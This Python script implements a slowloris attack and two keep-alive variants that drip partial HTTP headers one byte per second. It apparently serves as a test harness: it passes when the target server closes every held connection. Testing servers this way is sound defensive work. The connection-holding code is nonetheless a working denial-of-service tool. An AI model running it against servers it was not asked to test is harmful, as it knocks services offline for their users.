#!/usr/bin/python3
"""A slowloris against an HTTP server, and the keep-alive variants of it.

  slowloris.py hold HOST PORT SRC N READY MAX
      open N connections from address SRC, each sending the start of a
      request ("GET / HTTP/1.1\\r\\n" then header bytes) one byte a second and
      never its end; touch READY once all are open (or once a connect
      fails, as the server's listen queue is full: it holds those it has).
      Runs until the server has closed them all, or MAX seconds.  Prints:
        wanted N opened M closed_by_server C still_open O max_close_s X refused_503 R
      exits 0 when all N were opened and every one closed by the server.
  slowloris.py keepalive-slow HOST PORT SRC MAX
      one whole request, its response, then the next request one byte a
      second: exits 0 when the server closes the connection within MAX s
      (of the first byte of the second request), printing the seconds.
  slowloris.py keepalive-idle HOST PORT SRC OPEN MAX
      one whole request, its response, then silence: exits 0 when the
      connection is still open after OPEN s and closed within MAX s.
"""
import os
import select
import socket
import sys
import time

START = b"GET /healthz HTTP/1.1\r\nHost: x\r\n"
WHOLE = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"
DRIP = b"X-Slow: " + b"a" * 4000  # header bytes, never the blank line


def connect(host, port, src, timeout=10):
    s = socket.socket()
    s.bind((src, 0))
    s.settimeout(timeout)
    s.connect((host, port))
    s.setblocking(False)
    return s


def closed_by_peer(s):
    """(closed, got a 503) after the socket polled readable."""
    try:
        data = s.recv(4096)
    except BlockingIOError:
        return False, False
    except (ConnectionResetError, BrokenPipeError):
        return True, False
    if not data:
        return True, False
    got503 = data.startswith(b"HTTP/1.1 503")
    try:  # the rest, up to the close
        while s.recv(4096):
            pass
    except BlockingIOError:
        return False, got503
    except OSError:
        pass
    return True, got503


def hold(host, port, src, n, ready, limit):
    conns = {}  # fd -> [socket, opened at, bytes sent]
    t0 = time.monotonic()
    for _ in range(n):
        try:
            s = connect(host, port, src, 3)
        except OSError:
            break  # the server takes no more (its listen queue is full): hold these
        conns[s.fileno()] = [s, time.monotonic(), 0]
    opened = len(conns)
    open(ready, "w").close()
    poller = select.poll()
    for fd in conns:
        poller.register(fd, select.POLLIN)
    closed = refused = 0
    told = set()  # fds that got a 503
    max_close = 0.0
    next_drip = time.monotonic()
    while conns and time.monotonic() - t0 < limit:
        now = time.monotonic()
        if now >= next_drip:
            for fd, c in list(conns.items()):
                data = (START + DRIP)[c[2]:c[2] + 1]
                try:
                    c[0].send(data)
                    c[2] += 1
                except BlockingIOError:
                    pass
                except OSError:
                    pass  # reset: found by the poll
            next_drip = now + 1.0
        for fd, _ in poller.poll(max(0, int((next_drip - time.monotonic()) * 1000))):
            c = conns.get(fd)
            if c is None:
                continue
            done, got503 = closed_by_peer(c[0])
            if got503:
                told.add(fd)
            if done:
                refused += fd in told
                told.discard(fd)
                poller.unregister(fd)
                max_close = max(max_close, time.monotonic() - c[1])
                c[0].close()
                del conns[fd]
                closed += 1
    print("wanted %d opened %d closed_by_server %d still_open %d max_close_s %.1f refused_503 %d"
          % (n, opened, closed, len(conns), max_close, refused))
    return 0 if not conns and opened == n else 1


def first_response(s):
    s.setblocking(True)
    s.settimeout(5)
    s.sendall(WHOLE)
    data = b""
    while b"\r\n\r\nok" not in data:
        chunk = s.recv(4096)
        if not chunk:
            raise SystemExit("closed before the first response")
        data += chunk


def wait_closed(s, limit, drip):
    """Seconds until the server closed the connection, or None after limit."""
    s.setblocking(False)
    t0 = time.monotonic()
    sent = 0
    while time.monotonic() - t0 < limit:
        if drip:
            try:
                s.send((START + DRIP)[sent:sent + 1])
                sent += 1
            except BlockingIOError:
                pass
            except OSError:
                return time.monotonic() - t0
        r, _, _ = select.select([s], [], [], 1.0)
        if r and closed_by_peer(s)[0]:
            return time.monotonic() - t0
    return None


def main():
    mode = sys.argv[1]
    host, port, src = sys.argv[2], int(sys.argv[3]), sys.argv[4]
    if mode == "hold":
        return hold(host, port, src, int(sys.argv[5]), sys.argv[6], float(sys.argv[7]))
    s = connect(host, port, src)
    first_response(s)
    if mode == "keepalive-slow":
        t = wait_closed(s, float(sys.argv[5]), True)
        print("second request, a byte a second: closed after %s s"
              % ("%.1f" % t if t is not None else "more than " + sys.argv[5]))
        return 0 if t is not None else 1
    t = wait_closed(s, float(sys.argv[6]), False)
    print("idle after a response: closed after %s s"
          % ("%.1f" % t if t is not None else "more than " + sys.argv[6]))
    return 0 if t is not None and t >= float(sys.argv[5]) else 1


if __name__ == "__main__":
    sys.exit(main())
